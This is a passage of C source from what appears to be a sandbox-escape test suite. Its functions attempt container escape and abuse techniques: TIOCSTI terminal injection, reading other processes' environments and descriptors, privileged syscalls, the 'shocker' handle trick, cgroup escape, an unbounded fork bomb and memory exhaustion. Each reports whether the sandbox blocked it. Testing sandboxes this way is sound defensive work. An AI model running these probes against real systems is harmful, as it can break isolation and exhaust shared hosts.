      for (ssize_t i = 0; i + (ssize_t)nl < n; i++)
        if ((i == 0 || buf[i - 1] == 0) && !memcmp(buf + i, name, nl) && buf[i + nl] == '=')
          {
            note("%s has %s", p, name);
            found = 1;
          }
    }
  closedir(d);
  if (found)
    return succeeded("found %s in another process's environment", name);
  return blocked("%s not in %d readable environments", name, scanned);
}

/* Descriptors of the other processes in the sandbox (tars' init, if any): a directory there
 * that is not our own root, or a regular file outside the sandbox's views, is an escape.  */
static int
a_proc_fds(int argc, char **argv)
{
  struct stat root, own[3];
  stat("/", &root);
  for (int i = 0; i < 3; i++)
    if (fstat(i, &own[i]) < 0)
      own[i].st_ino = 0;
  DIR *d = opendir("/proc");
  if (!d)
    return blocked("opendir /proc: %s", E);
  struct dirent *de;
  int bad = 0, seen = 0;
  pid_t self = getpid();
  while ((de = readdir(d)))
    {
      if (de->d_name[0] < '0' || de->d_name[0] > '9' || atoi(de->d_name) == self)
        continue;
      char p[600], t[600];
      const char *links[] = {"cwd", "root"};
      for (int i = 0; i < 2; i++)
        {
          snprintf(p, sizeof p, "/proc/%s/%s", de->d_name, links[i]);
          struct stat st;
          if (stat(p, &st) < 0)
            continue;
          seen++;
          if (!strcmp(links[i], "root") && (st.st_dev != root.st_dev || st.st_ino != root.st_ino))
            {
              note("%s is a different root (dev %lu ino %lu)", p, (unsigned long)st.st_dev,
                   (unsigned long)st.st_ino);
              bad++;
            }
        }
      snprintf(p, sizeof p, "/proc/%s/fd", de->d_name);
      DIR *fdd = opendir(p);
      if (!fdd)
        continue;
      struct dirent *fe;
      while ((fe = readdir(fdd)))
        {
          if (fe->d_name[0] == '.')
            continue;
          snprintf(p, sizeof p, "/proc/%s/fd/%s", de->d_name, fe->d_name);
          ssize_t n = readlink(p, t, sizeof t - 1);
          if (n < 0)
            continue;
          t[n] = 0;
          seen++;
          struct stat st;
          int fd = open(p, O_RDONLY | O_NONBLOCK | O_NOCTTY);
          if (fd < 0)
            {
              note("%s -> %s (not openable: %s)", p, t, E);
              continue;
            }
          fstat(fd, &st);
          close(fd);
          int shared = 0;
          for (int i = 0; i < 3; i++)
            if (own[i].st_ino && own[i].st_dev == st.st_dev && own[i].st_ino == st.st_ino)
              shared = 1;
          if (shared)
            continue; /* the stdio we share with the sandbox's other processes */
          note("%s -> %s opened", p, t);
          if (S_ISDIR(st.st_mode))
            {
              char m[700];
              snprintf(m, sizeof m, "%s/tars-escape-marker", p);
              if (mkdir(m, 0700) == 0)
                {
                  rmdir(m);
                  note("created a directory through %s -> %s", p, t);
                  bad++;
                }
              else if (strcmp(t, "/"))
                bad++; /* an open directory of another process: a view outside ours */
            }
          else if (S_ISREG(st.st_mode))
            bad++;
        }
      closedir(fdd);
    }
  closedir(d);
  if (bad)
    return succeeded("%d foreign descriptors/roots reachable (see notes)", bad);
  return blocked("no foreign descriptor reachable (%d links seen)", seen);
}

/* Our own descriptors above 2: leaked from the host.  */
static int
a_fds(int argc, char **argv)
{
  DIR *d = opendir("/proc/self/fd");
  if (!d)
    return blocked("opendir /proc/self/fd: %s", E);
  int dfd = dirfd(d), n = 0;
  struct dirent *de;
  while ((de = readdir(d)))
    {
      if (de->d_name[0] == '.')
        continue;
      int fd = atoi(de->d_name);
      if (fd <= 2 || fd == dfd)
        continue;
      char p[64], t[512] = "?";
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      ssize_t l = readlink(p, t, sizeof t - 1);
      if (l >= 0)
        t[l] = 0;
      note("fd %d -> %s", fd, t);
      n++;
    }
  closedir(d);
  /* /proc could lie if hidden; probe with fcntl too.  */
  for (int fd = 3; fd < 1024; fd++)
    if (fd != dfd && fcntl(fd, F_GETFD) >= 0)
      {
        note("fcntl finds fd %d open", fd);
        n++;
      }
  if (n)
    return succeeded("%d descriptors above 2 are open", n);
  return blocked("no descriptor above 2");
}

/* ---- terminals ---------------------------------------------------------------------------- */

static int
tty_fd(void)
{
  if (isatty(0))
    return 0;
  if (isatty(1))
    return 1;
  if (isatty(2))
    return 2;
  return open("/dev/tty", O_RDWR | O_NOCTTY);
}

static int
a_tiocsti(int argc, char **argv)
{
  int fd = tty_fd();
  if (fd < 0)
    return skip("no terminal (stdin/stdout/stderr and /dev/tty): %s", E);
  const char *s = argc ? argv[0] : "#";
  for (const char *c = s; *c; c++)
    if (ioctl(fd, TIOCSTI, c) < 0)
      return blocked("ioctl(TIOCSTI) on the terminal: %s", E);
  return succeeded("pushed \"%s\" into the terminal's input with TIOCSTI", s);
}

/* The seccomp filter must refuse these ioctls whatever the descriptor: on /dev/null an
 * unfiltered call fails with ENOTTY, a filtered one with EPERM.  */
static int
a_ioctl_filter(int argc, char **argv)
{
  unsigned long req = !strcmp(argv[0], "TIOCSTI") ? TIOCSTI : TIOCLINUX;
  int fd = tty_fd();
  int is_tty = fd >= 0;
  if (fd < 0)
    fd = open("/dev/null", O_RDWR);
  char arg[8] = {6 /* TIOCL_GETSHIFTSTATE */};
  if (req == TIOCSTI)
    arg[0] = '#';
  if (ioctl(fd, req, arg) == 0)
    return succeeded("ioctl(%s) on %s worked", argv[0], is_tty ? "the terminal" : "/dev/null");
  if (errno != EPERM)
    return succeeded("ioctl(%s) reached the driver (%s): the seccomp filter does not refuse it",
                     argv[0], E);
  return blocked("ioctl(%s): %s (seccomp)", argv[0], E);
}

/* ---- network ------------------------------------------------------------------------------ */

static int
a_socket(int argc, char **argv)
{
  static const struct
  {
    const char *n;
    int d, t, p;
  } t[] = {
      {"raw", AF_INET, SOCK_RAW, IPPROTO_ICMP},
      {"raw6", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6},
      {"packet", AF_PACKET, SOCK_RAW, 0x0300 /* htons(ETH_P_ALL) */},
      {"netlink", AF_NETLINK, SOCK_RAW, 0 /* NETLINK_ROUTE */},
      {"netlink_audit", AF_NETLINK, SOCK_RAW, 9 /* NETLINK_AUDIT */},
      {"vsock", 40 /* AF_VSOCK */, SOCK_STREAM, 0},
      {"alg", 38 /* AF_ALG */, SOCK_SEQPACKET, 0},
      {"key", 15 /* AF_KEY */, SOCK_RAW, 2 /* PF_KEY_V2 */},
      {"tipc", 30 /* AF_TIPC */, SOCK_RDM, 0},
      {"bluetooth", 31 /* AF_BLUETOOTH */, SOCK_RAW, 0},
  };
  for (size_t i = 0; i < sizeof t / sizeof *t; i++)
    if (!strcmp(t[i].n, argv[0]))
      {
        int s = socket(t[i].d, t[i].t, t[i].p);
        if (s < 0)
          return blocked("socket(%s): %s", argv[0], E);
        close(s);
        return succeeded("socket(%s) created", argv[0]);
      }
  return OK_USAGE;
}

static int
connect_timeout(int s, const struct sockaddr *sa, socklen_t len)
{
  fcntl(s, F_SETFL, O_NONBLOCK);
  if (connect(s, sa, len) == 0)
    return 0;
  if (errno != EINPROGRESS)
    return -1;
  struct timeval tv = {3, 0};
  fd_set w;
  FD_ZERO(&w);
  FD_SET(s, &w);
  if (select(s + 1, NULL, &w, NULL, &tv) <= 0)
    return errno = ETIMEDOUT, -1;
  int err = 0;
  socklen_t el = sizeof err;
  getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &el);
  if (err)
    return errno = err, -1;
  return 0;
}

static int
a_connect_tcp(int argc, char **argv)
{
  struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(argv[1]))};
  struct sockaddr_in a4 = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
  int s;
  if (inet_pton(AF_INET, argv[0], &a4.sin_addr) == 1)
    {
      s = socket(AF_INET, SOCK_STREAM, 0);
      if (s < 0)
        return blocked("socket(AF_INET): %s", E);
      if (connect_timeout(s, (struct sockaddr *)&a4, sizeof a4) < 0)
        return blocked("connect %s:%s: %s", argv[0], argv[1], E);
    }
  else if (inet_pton(AF_INET6, argv[0], &a6.sin6_addr) == 1)
    {
      s = socket(AF_INET6, SOCK_STREAM, 0);
      if (s < 0)
        return blocked("socket(AF_INET6): %s", E);
      if (connect_timeout(s, (struct sockaddr *)&a6, sizeof a6) < 0)
        return blocked("connect [%s]:%s: %s", argv[0], argv[1], E);
    }
  else
    return OK_USAGE;
  if (write(s, "tars-escape\n", 12) < 0)
    note("write: %s", E);
  return succeeded("connected to %s port %s", argv[0], argv[1]);
}

static int
a_udp_send(int argc, char **argv)
{
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
  inet_pton(AF_INET, argv[0], &a.sin_addr);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0)
    return blocked("socket(AF_INET, DGRAM): %s", E);
  if (sendto(s, "tars-escape\n", 12, 0, (struct sockaddr *)&a, sizeof a) < 0)
    return blocked("sendto %s:%s: %s", argv[0], argv[1], E);
  return succeeded("sent a UDP datagram to %s:%s", argv[0], argv[1]);
}

static int
a_connect_unix(int argc, char **argv)
{
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  socklen_t len;
  const char *p = argv[0];
  if (p[0] == '@')
    {
      strncpy(a.sun_path + 1, p + 1, sizeof a.sun_path - 2);
      len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(p + 1);
    }
  else
    {
      strncpy(a.sun_path, p, sizeof a.sun_path - 1);
      len = sizeof a;
    }
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0)
    return blocked("socket(AF_UNIX): %s", E);
  if (connect(s, (struct sockaddr *)&a, len) < 0)
    return blocked("connect unix %s: %s", p, E);
  if (write(s, "GET /version HTTP/1.0\r\n\r\n", 25) < 0)
    note("write: %s", E);
  return succeeded("connected to unix socket %s", p);
}

static int
a_sendto_unix(int argc, char **argv)
{
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, argv[0], sizeof a.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  if (s < 0)
    return blocked("socket(AF_UNIX, DGRAM): %s", E);
  if (sendto(s, "tars-escape\n", 12, 0, (struct sockaddr *)&a, sizeof a) < 0)
    return blocked("sendto unix %s: %s", argv[0], E);
  return succeeded("sent a datagram to the unix socket %s", argv[0]);
}

/* Watch a host directory: any event is the host's doing (the sandbox does nothing there).  */
static int
a_inotify(int argc, char **argv)
{
  int in = inotify_init1(IN_CLOEXEC);
  if (in < 0)
    return blocked("inotify_init1: %s", E);
  if (inotify_add_watch(in, argv[0], IN_ALL_EVENTS) < 0)
    return blocked("inotify_add_watch %s: %s", argv[0], E);
  struct pollfd p = {.fd = in, .events = POLLIN};
  int r = poll(&p, 1, atoi(argv[1]) * 1000);
  if (r > 0)
    {
      char buf[4096];
      ssize_t n = read(in, buf, sizeof buf);
      struct inotify_event *e = (struct inotify_event *)buf;
      if (n >= (ssize_t)sizeof *e)
        return succeeded("saw host activity in %s (mask %#x, %s)", argv[0], e->mask,
                         e->len ? e->name : "");
    }
  return blocked("no event in %s for %s s", argv[0], argv[1]);
}

/* ---- privileged kernel interfaces ------------------------------------------------------- */

#ifndef SYS_bpf
#define SYS_bpf 321
#endif
static int
a_bpf(int argc, char **argv)
{
  union
  {
    struct
    {
      uint32_t map_type, key_size, value_size, max_entries;
    } m;
    char pad[128];
  } attr;
  memset(&attr, 0, sizeof attr);
  attr.m.map_type = 2; /* BPF_MAP_TYPE_ARRAY */
  attr.m.key_size = 4;
  attr.m.value_size = 4;
  attr.m.max_entries = 1;
  int fd = syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, &attr, sizeof attr);
  if (fd < 0)
    return blocked("bpf(BPF_MAP_CREATE): %s", E);
  return succeeded("bpf(BPF_MAP_CREATE) returned fd %d", fd);
}

static int
a_perf(int argc, char **argv)
{
  /* struct perf_event_attr, PERF_TYPE_SOFTWARE / PERF_COUNT_SW_CPU_CLOCK */
  uint32_t attr[32] = {1, 128};
  int fd = syscall(SYS_perf_event_open, attr, 0, -1, -1, 0);
  if (fd < 0)
    return blocked("perf_event_open: %s", E);
  return succeeded("perf_event_open returned fd %d", fd);
}

static int
a_keyctl(int argc, char **argv)
{
  long id = syscall(SYS_add_key, "user", "tars-escape", "x", 1, -4 /* KEY_SPEC_USER_KEYRING */);
  if (id >= 0)
    return succeeded("add_key made key %ld", id);
  note("add_key: %s", E);
  long r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4, 0);
  if (r >= 0)
    return succeeded("keyctl(GET_KEYRING_ID, user keyring) = %ld", r);
  return blocked("keyctl: %s", E);
}

static int
a_userfaultfd(int argc, char **argv)
{
  int fd = syscall(SYS_userfaultfd, O_CLOEXEC);
  if (fd < 0)
    {
      int e = errno;
      int dev = open("/dev/userfaultfd", O_RDWR);
      if (dev >= 0)
        return succeeded("opened /dev/userfaultfd (userfaultfd(): %s)", strerror(e));
      errno = e;
      return blocked("userfaultfd: %s", E);
    }
  return succeeded("userfaultfd returned fd %d", fd);
}

static int
a_io_uring(int argc, char **argv)
{
  char params[120] = {0};
  int fd = syscall(425 /* io_uring_setup */, 4, params);
  if (fd < 0)
    return blocked("io_uring_setup: %s", E);
  return succeeded("io_uring_setup returned fd %d", fd);
}

static int
a_kexec(int argc, char **argv)
{
  /* Zero segments with an unknown flag: after the capability check, EINVAL.  */
  if (syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0xdead0000UL) == 0)
    return succeeded("kexec_load returned 0");
  if (errno != EPERM)
    return succeeded("kexec_load passed the capability check (%s)", E);
  int fd = open("/dev/null", O_RDONLY);
  if (syscall(SYS_kexec_file_load, fd, fd, 0UL, "", 0xdead0000UL) == 0)
    return succeeded("kexec_file_load returned 0");
  if (errno != EPERM)
    return succeeded("kexec_file_load passed the capability check (%s)", E);
  return blocked("kexec_load and kexec_file_load: %s", E);
}

static int
a_module(int argc, char **argv)
{
  /* An empty image: after the capability check, ENOEXEC/EINVAL.  */
  if (syscall(SYS_init_module, "", 0UL, "") == 0)
    return succeeded("init_module returned 0");
  if (errno != EPERM)
    return succeeded("init_module passed the capability check (%s)", E);
  int fd = open("/dev/null", O_RDONLY);
  if (syscall(SYS_finit_module, fd, "", 0) == 0)
    return succeeded("finit_module returned 0");
  if (errno != EPERM)
    return succeeded("finit_module passed the capability check (%s)", E);
  if (syscall(SYS_delete_module, "tars_no_such_module", O_NONBLOCK) == 0 || errno != EPERM)
    return succeeded("delete_module passed the capability check (%s)", E);
  return blocked("init_module, finit_module, delete_module: %s", E);
}

/* "shocker": name_to_handle_at, then open_by_handle_at with a guessed handle for the root of
 * the host file system (inode 2).  */
static int
a_open_by_handle(int argc, char **argv)
{
  struct
  {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
  } h = {.handle_bytes = 128};
  int mnt;
  int fd = open("/", O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, "/etc", (void *)&h, &mnt, 0) < 0)
    note("name_to_handle_at(/etc): %s", E);
  int r = open_by_handle_at(fd, (void *)&h, O_RDONLY);
  if (r >= 0)
    return succeeded("open_by_handle_at opened a file by handle");
  if (errno != EPERM)
    return succeeded("open_by_handle_at passed the capability check (%s)", E);
  return blocked("open_by_handle_at: %s", E);
}

static int
a_setids(int argc, char **argv)
{
  uid_t u = getuid();
  gid_t g = getgid();
  uid_t to = u == 0 ? 1 : 0;
  if (setresuid(to, to, to) == 0)
    return succeeded("setresuid(%d) from uid %d", to, u);
  note("setresuid(%d): %s", to, E);
  if (setresgid(g == 0 ? 1 : 0, g == 0 ? 1 : 0, g == 0 ? 1 : 0) == 0)
    return succeeded("setresgid from gid %d", g);
  note("setresgid: %s", E);
  gid_t groups[] = {0, 27};
  if (setgroups(2, groups) == 0)
    return succeeded("setgroups(0, 27)");
  note("setgroups: %s", E);
  if (setfsuid(to) == (int)u && setfsuid(to) == (int)to)
    return succeeded("setfsuid(%d)", to);
  return blocked("setresuid/setresgid/setgroups/setfsuid: no new identity");
}

static int
a_raise_rlimit(int argc, char **argv)
{
  int res[] = {RLIMIT_NPROC, RLIMIT_AS, RLIMIT_CPU, RLIMIT_FSIZE, RLIMIT_NOFILE};
  const char *names[] = {"NPROC", "AS", "CPU", "FSIZE", "NOFILE"};
  for (int i = 0; i < 5; i++)
    {
      struct rlimit r;
      getrlimit(res[i], &r);
      if (r.rlim_max == RLIM_INFINITY)
        {
          note("RLIMIT_%s hard limit is unlimited", names[i]);
          continue;
        }
      struct rlimit up = {r.rlim_max + 1, r.rlim_max + 1};
      if (setrlimit(res[i], &up) == 0)
        return succeeded("raised the RLIMIT_%s hard limit above %llu", names[i],
                         (unsigned long long)r.rlim_max);
    }
  return blocked("no hard rlimit could be raised: %s", E);
}

static int
a_capcheck(int argc, char **argv)
{
  const char *w = argv[0];
  int r;
  if (!strcmp(w, "reboot"))
    /* Bad magic2: EPERM before the magic check without CAP_SYS_BOOT, EINVAL after.  */
    r = syscall(SYS_reboot, 0xfee1dead, 0x1234, 0x4321fedc, NULL);
  else if (!strcmp(w, "swapon"))
    r = syscall(SYS_swapon, "/nonexistent-tars", 0);
  else if (!strcmp(w, "iopl"))
    r = syscall(SYS_iopl, 3);
  else if (!strcmp(w, "ioperm"))
    r = syscall(SYS_ioperm, 0x80, 1, 1);
  else if (!strcmp(w, "settime"))
    {
      struct timespec ts;
      clock_gettime(CLOCK_REALTIME, &ts);
      r = clock_settime(CLOCK_REALTIME, &ts);
    }
  else if (!strcmp(w, "sethostname"))
    r = sethostname("tars-escaped", 12);
  else if (!strcmp(w, "setdomainname"))
    r = setdomainname("tars-escaped", 12);
  else if (!strcmp(w, "nice"))
    r = setpriority(PRIO_PROCESS, 0, -20);
  else if (!strcmp(w, "acct"))
    r = acct("/nonexistent-tars");
  else if (!strcmp(w, "quotactl"))
    r = syscall(SYS_quotactl, 0x800002 /* Q_QUOTAON */, "/dev/null", 0, NULL);
  else if (!strcmp(w, "syslog"))
    {
      char b[64];
      r = klogctl(3 /* READ_ALL */, b, sizeof b);
    }
  else
    return OK_USAGE;
  if (r >= 0)
    return succeeded("%s worked", w);
  if (errno != EPERM && errno != EACCES)
    return succeeded("%s passed the capability check (%s)", w, E);
  return blocked("%s: %s", w, E);
}

/* ---- cgroups ------------------------------------------------------------------------------ */

/* Lift our own limits or leave our cgroup: both must fail.  */
static int
a_cgroup_escape(int argc, char **argv)
{
  FILE *f = fopen("/proc/self/cgroup", "r");
  char line[512];
  int tried = 0;
  char pid[32];
  snprintf(pid, sizeof pid, "%d\n", getpid());
  while (f && fgets(line, sizeof line, f))
    {
      line[strcspn(line, "\n")] = 0;
      char *ctl = strchr(line, ':');
      if (!ctl)
        continue;
      ctl++;
      char *path = strchr(ctl, ':');
      if (!path)
        continue;
      *path++ = 0;
      const char *dir = *ctl ? ctl : "unified";
      if (!strncmp(dir, "name=", 5))
        dir += 5;
      const char *files[] = {"memory.limit_in_bytes", "memory.max", "pids.max", "cpu.cfs_quota_us",
                             "cpu.max"};
      for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        {
          char p[1200];
          snprintf(p, sizeof p, "/sys/fs/cgroup/%s%s/%s", dir, path, files[i]);
          int fd = open(p, O_WRONLY);
          if (fd < 0)
            continue;
          tried++;
          close(fd);
          return succeeded("opened our cgroup limit %s for writing", p);
        }
      char p[1200];
      snprintf(p, sizeof p, "/sys/fs/cgroup/%s/cgroup.procs", dir);
      int fd = open(p, O_WRONLY);
      if (fd >= 0)
        {
          tried++;
          if (write(fd, pid, strlen(pid)) > 0)
            return succeeded("moved ourselves into the root cgroup via %s", p);
          note("write %s: %s", p, E);
          close(fd);
        }
    }
  if (f)
    fclose(f);
  if (mount("cgroup", "/tmp", "cgroup", 0, "memory") == 0)
    return succeeded("mounted a cgroup hierarchy");
  return blocked("no cgroup limit or cgroup.procs writable (%d opened); mount cgroup: %s", tried,
                 E);
}

/* ---- mounts seen in /proc/self/mountinfo -------------------------------------------------- */

/* Overlay upperdir/lowerdir/workdir paths leaked in mountinfo: create a file in each.  A write in
 * a lowerdir is an escape (that is the host copy or the snapshot).  */
static int
a_overlay_dirs(int argc, char **argv)
{
  FILE *f = fopen("/proc/self/mountinfo", "r");
  if (!f)
    return blocked("open mountinfo: %s", E);
  static char line[8192];
  int bad = 0, seen = 0;
  while (fgets(line, sizeof line, f))
    {
      if (!strstr(line, " - overlay "))
        continue;
      char *opts = strrchr(line, ' ');
      if (!opts)
        continue;
      opts++;
      opts[strcspn(opts, "\n")] = 0;
      char *save, *o;
      for (o = strtok_r(opts, ",", &save); o; o = strtok_r(NULL, ",", &save))
        {
          const char *keys[] = {"lowerdir=", "upperdir=", "workdir="};
          for (int k = 0; k < 3; k++)
            if (!strncmp(o, keys[k], strlen(keys[k])))
              {
                char *v = o + strlen(keys[k]), *s2, *d;
                for (d = strtok_r(v, ":", &s2); d; d = strtok_r(NULL, ":", &s2))
                  {
                    char p[4200];
                    seen++;
                    snprintf(p, sizeof p, "%s/tars-escape-overlay", d);
                    int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
                    if (fd < 0)
                      {
                        note("%s%s: create: %s", keys[k], d, E);
                        continue;
                      }
                    close(fd);
                    unlink(p);
                    note("%s%s: created a file", keys[k], d);
                    if (k == 0)
                      bad++;
                  }
              }
        }
    }
  fclose(f);
  if (bad)
    return succeeded("wrote into %d overlay lower layers", bad);
  return blocked("no overlay lower layer writable (%d dirs in mountinfo)", seen);
}

/* Every mount that claims to be read-write: create a marker at its root.  Only tmpfs, devpts,
 * mqueue and the workspace overlay (ARGV[0]) may take it.  */
static int
a_rw_mounts(int argc, char **argv)
{
  const char *ws = argc ? argv[0] : "";
  FILE *f = fopen("/proc/self/mountinfo", "r");
  if (!f)
    return blocked("open mountinfo: %s", E);
  static char line[8192];
  int bad = 0, seen = 0;
  while (fgets(line, sizeof line, f))
    {
      char mp[4096], mopts[1024], fstype[64];
      if (sscanf(line, "%*d %*d %*s %*s %4095s %1023s", mp, mopts) != 2)
        continue;
      char *sep = strstr(line, " - ");
      if (!sep || sscanf(sep + 3, "%63s", fstype) != 1)
        continue;
      if (strncmp(mopts, "rw", 2))
        continue;
      seen++;
      if (!strcmp(fstype, "tmpfs") || !strcmp(fstype, "devpts") || !strcmp(fstype, "mqueue") ||
          (!strcmp(fstype, "overlay") && !strcmp(mp, ws)))
        continue;
      struct stat st;
      if (stat(mp, &st) < 0 || !S_ISDIR(st.st_mode))
        continue;
      char p[4200];
      snprintf(p, sizeof p, "%s/.tars-escape-rw", mp);
      int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
      if (fd < 0)
        {
          note("%s (%s, %s): %s", mp, fstype, mopts, E);
          continue;
        }
      close(fd);
      unlink(p);
      note("created a file at the root of %s (%s)", mp, fstype);
      bad++;
    }
  fclose(f);
  if (bad)
    return succeeded("%d read-write host mounts", bad);
  return blocked("no writable host mount (%d rw mounts are tmpfs/devpts/workspace)", seen);
}

/* System V shared memory of the host, by key: the IPC namespace must hide it.  */
#include <sys/shm.h>
#include <sys/msg.h>
static int
a_sysv_ipc(int argc, char **argv)
{
  key_t key = (key_t)strtol(argv[0], NULL, 0);
  int id = shmget(key, 0, 0);
  if (id >= 0)
    {
      void *p = shmat(id, NULL, SHM_RDONLY);
      return succeeded("shmget(%#x) found the host's segment %d%s", key, id,
                       p != (void *)-1 ? " and attached it" : "");
    }
  int e = errno;
  if (argc > 1)
    {
      int mid = atoi(argv[1]);
      struct shmid_ds ds;
      if (shmctl(mid, IPC_STAT, &ds) == 0)
        return succeeded("shmctl(IPC_STAT) of the host's segment id %d worked", mid);
    }
  errno = e;
  return blocked("shmget(%#x): %s", key, E);
}

/* ---- exhaustion --------------------------------------------------------------------------- */

static int
a_forkbomb(int argc, char **argv)
{
  long cap = atol(argv[0]);
  static pid_t kids[1 << 16];
  long n = 0;
  while (n < (long)(sizeof kids / sizeof *kids))
    {
      pid_t c = fork();
      if (c < 0)
        break;
      if (c == 0)
        {
          pause();
          _exit(0);
        }
      kids[n++] = c;
      if (n >= cap)
        break;
    }
  int e = errno;
  for (long i = 0; i < n; i++)
    kill(kids[i], SIGKILL);
  for (long i = 0; i < n; i++)
    waitpid(kids[i], NULL, 0);
  if (n >= cap)
    return succeeded("forked %ld processes (cap %ld)", n, cap);
  errno = e;
  return blocked("fork failed after %ld processes: %s", n, E);
}

/* The real thing: never returns; the sandbox must end it.  */
static int
a_forkbomb_real(int argc, char **argv)
{
  for (;;)
    if (fork() < 0)
      usleep(1000);
  return OK_SUCCEEDED;
}

static int
a_membomb(int argc, char **argv)
{
  long target = atol(argv[0]), mb = 0;
  while (mb < target)
    {
      char *p = malloc(1 << 20);
      if (!p)
        return blocked("malloc failed after %ld MiB", mb);
      memset(p, 0x5a, 1 << 20);
      mb++;
    }
  return succeeded("allocated and touched %ld MiB", mb);
}

static double
cpu_seconds(void)
{
  struct rusage r;
  getrusage(RUSAGE_SELF, &r);
  return r.ru_utime.tv_sec + r.ru_stime.tv_sec + (r.ru_utime.tv_usec + r.ru_stime.tv_usec) / 1e6;
}

static int
a_spin(int argc, char **argv)
{
  double target = atof(argv[0]);
  volatile unsigned long x = 0;
  while (cpu_seconds() < target)
    for (int i = 0; i < 1000000; i++)
      x++;
  return succeeded("spun for %.1f CPU seconds", target);
}

/* N children each touch MIB MiB and hold it: all of them at once passing the memory limit
 * means the limit binds each process, not the sandbox.  */
static int
a_mem_children(int argc, char **argv)
{
  int n = atoi(argv[0]);
  long mib = atol(argv[1]);
  int p[2];
  if (pipe(p) < 0)
    return blocked("pipe: %s", E);
  fflush(stdout);
  pid_t kids[64];
  for (int i = 0; i < n && i < 64; i++)
    {
      kids[i] = fork();
      if (kids[i] == 0)
        {
          close(p[0]);
          /* volatile: the pages must really be touched, not the stores optimised away.  */
          volatile char *m = malloc((size_t)mib << 20);
          if (m == NULL)
            _exit(1);
          for (size_t off = 0; off < ((size_t)mib << 20); off += 4096)
            m[off] = 0x5a;
          (void)!write(p[1], "x", 1);
          pause();
          _exit(0);
        }
    }
  close(p[1]);
  int held = 0;
  char c;
  struct pollfd pf = {.fd = p[0], .events = POLLIN};
  while (held < n && poll(&pf, 1, 10000) > 0 && read(p[0], &c, 1) == 1)
    held++;
  for (int i = 0; i < n; i++)
    kill(kids[i], SIGKILL);
  while (wait(NULL) > 0)
    ;
  if (held == n)
    return succeeded("%d children held %ld MiB each at once (%ld MiB)", n, mib, n * mib);
  return blocked("only %d of %d children got %ld MiB", held, n, mib);
}

/* MIB MiB of memfd pages, written (not mapped): no address space is used.  */
static int
a_memfd(int argc, char **argv)
{
  long mib = atol(argv[0]);
  int fd = (int)syscall(SYS_memfd_create, "tars-escape", 0);
  if (fd < 0)
    return blocked("memfd_create: %s", E);
  static char chunk[1 << 20];
  memset(chunk, 0x5a, sizeof chunk);
  long done = 0;
  for (; done < mib; done++)
    if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk)
      break;
  if (done == mib)
    return succeeded("%ld MiB in a memfd", mib);
  return blocked("memfd writes stopped after %ld MiB: %s", done, E);
}

/* N children each spin SECONDS of CPU: all of it used means the CPU limit binds each process.  */
static int
a_cpu_children(int argc, char **argv)
{
  int n = atoi(argv[0]);
  double each = atof(argv[1]);
  fflush(stdout);
  for (int i = 0; i < n; i++)
    if (fork() == 0)
      {
        volatile unsigned long x = 0;
        while (cpu_seconds() < each)
          for (int k = 0; k < 1000000; k++)
            x++;
        _exit(0);
      }
  while (wait(NULL) > 0)
    ;
  struct rusage r;
  getrusage(RUSAGE_CHILDREN, &r);
  double used =
      r.ru_utime.tv_sec + r.ru_stime.tv_sec + (r.ru_utime.tv_usec + r.ru_stime.tv_usec) / 1e6;
  if (used >= 0.9 * n * each)
    return succeeded("%d children used %.1f CPU seconds in total", n, used);
  return blocked("the children used %.1f CPU seconds in total", used);
}

/* Run a command; its success is the attack's (a setuid binary, a nested sandbox...).  */
static int
a_run(int argc, char **argv)
{
  fflush(stdout);
  pid_t c = fork();
  if (c == 0)
    {
      dup2(1, 2);
      execv(argv[0], argv);
      fprintf(stderr, "exec %s: %s\n", argv[0], strerror(errno));
      _exit(127);
    }
  int st;
  if (c < 0 || waitpid(c, &st, 0) < 0)
    return blocked("fork/wait: %s", E);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
    return succeeded("%s exited 0", argv[0]);
  return blocked("%s failed (status %#x)", argv[0], st);
}

/* ---- table -------------------------------------------------------------------------------- */

static const struct
{
  const char *name;
  int (*fn)(int, char **);
  int nargs;
  const char *usage;
} attacks[] = {
    {"openw", a_openw, 1, "PATH"},
    {"write", a_write, 1, "PATH [TEXT]"},
    {"create", a_create, 1, "PATH"},
    {"mkdir", a_mkdir, 1, "PATH"},
    {"unlink", a_unlink, 1, "PATH"},
    {"rename", a_rename, 2, "FROM TO"},
    {"truncate", a_truncate, 1, "PATH"},
    {"utime", a_utime, 1, "PATH"},
    {"setxattr", a_setxattr, 1, "PATH [NAME [VALUE]]"},
    {"bind_unix", a_bind_unix, 1, "PATH"},
    {"sysv_ipc", a_sysv_ipc, 1, "KEY [ID]"},
    {"chmod_suid", a_chmod_suid, 1, "PATH"},
    {"chown", a_chown, 1, "PATH"},
    {"fd_reopen", a_fd_reopen, 1, "PATH"},
    {"tmpfile_link", a_tmpfile_link, 2, "DIR NAME"},
    {"symlink_write", a_symlink_write, 2, "TARGET LINK"},
    {"hardlink_write", a_hardlink_write, 2, "TARGET LINK"},
    {"read", a_read, 1, "PATH"},
    {"list", a_list, 1, "DIR [IGNORED-NAME]"},
    {"stat", a_stat, 1, "PATH"},
    {"mknod", a_mknod, 2, "PATH c|b|p"},
    {"setuid_file", a_setuid_file, 1, "PATH"},
    {"fill", a_fill, 2, "DIR MIB"},
    {"mount_tmpfs", a_mount_tmpfs, 1, "DIR"},
    {"remount_rw", a_remount_rw, 1, "PATH"},
